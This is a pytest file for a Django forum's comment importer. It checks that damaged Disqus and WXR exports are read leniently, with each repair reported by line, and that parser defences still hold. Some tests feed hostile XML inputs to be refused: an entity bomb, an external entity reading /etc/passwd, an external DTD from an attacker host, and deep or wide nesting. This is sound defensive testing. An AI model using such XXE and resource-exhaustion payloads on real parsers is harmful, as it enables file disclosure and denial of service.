"""Damaged exports: read leniently, with every repair and loss named by line, defences intact."""

import io
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from forum.archives import ImportFailed
from forum.archives.lenient import Damage, lenient_iterparse
from forum.models import Post, Thread
from tests.forum.archives.hostile_files import too_deep, too_wide

pytestmark = pytest.mark.django_db

SAMPLES = Path(__file__).parent / "samples"
STRAY = b"`"  # what Remark42's fixtures carry before their XML declaration


def import_bytes(tmp_path, data, format="disqus", *options):
    path = tmp_path / "export.xml"
    path.write_bytes(data)
    out = io.StringIO()
    call_command("import_comments", str(path), "--format", format, *options, stdout=out)
    return out.getvalue().splitlines()


def sample(name="disqus_export.xml"):
    return (SAMPLES / name).read_bytes()


def line_of(data, piece):
    return data[: data.index(piece)].count(b"\n") + 1


def test_stray_bytes_before_the_declaration_are_left_out_and_reported(tmp_path):
    lines = import_bytes(tmp_path, STRAY + sample())
    assert "  line 1: 1 stray byte(s) before the XML declaration, left out" in lines
    assert lines[0].startswith("The file is damaged: it was read leniently")
    assert "Posts: 8 added, 0 with a new status, 0 unchanged" in lines


def test_an_unquoted_attribute_keeps_the_post_in_its_thread(tmp_path):
    data = sample()
    start = data.index(b'<post dsq:id="9003">')
    data = data[:start] + data[start:].replace(
        b'<thread dsq:id="5001" />', b"<thread dsq:id=5001 />", 1
    )

    lines = import_bytes(tmp_path, data)

    line = line_of(data, b"<thread dsq:id=5001 />")
    assert f"  line {line}: an attribute value without quotes, read as if quoted" in lines
    assert Post.objects.get(external_id="disqus:9003").thread.external_id == "disqus:5001"


def test_forbidden_control_characters_are_dropped_and_the_text_kept(tmp_path):
    data = sample().replace(b"Agreed with Grace.", b"Agreed\x01 with\x0b Grace.", 1)

    lines = import_bytes(tmp_path, data)

    line = line_of(data, b"Agreed\x01")
    assert any(entry.startswith(f"  line {line}: ") for entry in lines)
    assert Post.objects.get(external_id="disqus:9003").body_html == "<p>Agreed with Grace.</p>"


def test_a_truncated_file_keeps_what_came_before_and_lists_the_post_cut_off(tmp_path):
    data = sample()
    cut = data[: data.index(b"<createdAt>", data.index(b'<post dsq:id="9004">'))]

    lines = import_bytes(tmp_path, cut)

    line = line_of(cut, b'<post dsq:id="9004">')
    assert f"  line {line}: cut off by the end of the file" in lines
    assert not Post.objects.filter(external_id="disqus:9004").exists()
    assert Post.objects.filter(external_id="disqus:9001").exists()
    assert "Comments in the file: 4, of which 3 stored and 1 skipped" in lines


def test_strict_refuses_a_damaged_file_and_stores_nothing(tmp_path):
    with pytest.raises(CommandError, match="malformed XML at line 1, column 1"):
        import_bytes(tmp_path, STRAY + sample(), "disqus", "--strict")
    assert not Thread.objects.exists()


def test_an_intact_file_is_not_called_damaged(tmp_path):
    lines = import_bytes(tmp_path, sample())
    assert not any("damaged" in line for line in lines)


# The defences hold when the strict reader gives up at the first byte and lxml reads instead.


@pytest.mark.parametrize(
    ("name", "format", "refusal"),
    [
        ("entity_bomb.xml", "disqus", "refused: the file defines XML entities"),
        ("external_entity.xml", "wxr", r"external entity \(file:///etc/passwd\)"),
    ],
)
def test_entities_are_refused_in_a_damaged_file_too(tmp_path, name, format, refusal):
    with pytest.raises(CommandError, match=refusal):
        import_bytes(tmp_path, STRAY + sample(name), format)
    assert not Thread.objects.exists()


def test_an_external_dtd_is_refused_in_a_damaged_file_too(tmp_path):
    data = STRAY + sample().replace(
        b"<disqus ", b'<!DOCTYPE disqus SYSTEM "http://attacker.example/evil.dtd">\n<disqus ', 1
    )
    with pytest.raises(CommandError, match=r"external resource \(http://attacker"):
        import_bytes(tmp_path, data)


def test_deep_nesting_is_refused_in_a_damaged_file_too(tmp_path):
    with pytest.raises(CommandError, match="nest more than 64 levels deep"):
        import_bytes(tmp_path, STRAY + too_deep(100_000))
    assert not Thread.objects.exists()


def test_a_record_too_wide_is_refused_in_a_damaged_file_too(tmp_path):
    with pytest.raises(CommandError, match="one <post> holds more than 10,000 elements"):
        import_bytes(tmp_path, STRAY + too_wide(20_000))


def test_quoted_values_that_look_like_attributes_are_left_alone():
    data = b'<a><b title="x c=d" e=f>text</b></a>'
    damage = Damage()
    elements = [
        element for event, element in lenient_iterparse(io.BytesIO(data), damage) if event == "end"
    ]
    assert dict(elements[0].attrib) == {"title": "x c=d", "e": "f"}
    assert damage.notes == [(1, "an attribute value without quotes, read as if quoted")]


def test_a_file_with_no_element_at_all_is_refused():
    with pytest.raises(ImportFailed, match="no XML element could be read"):
        list(lenient_iterparse(io.BytesIO(b"`not xml at all"), Damage()))
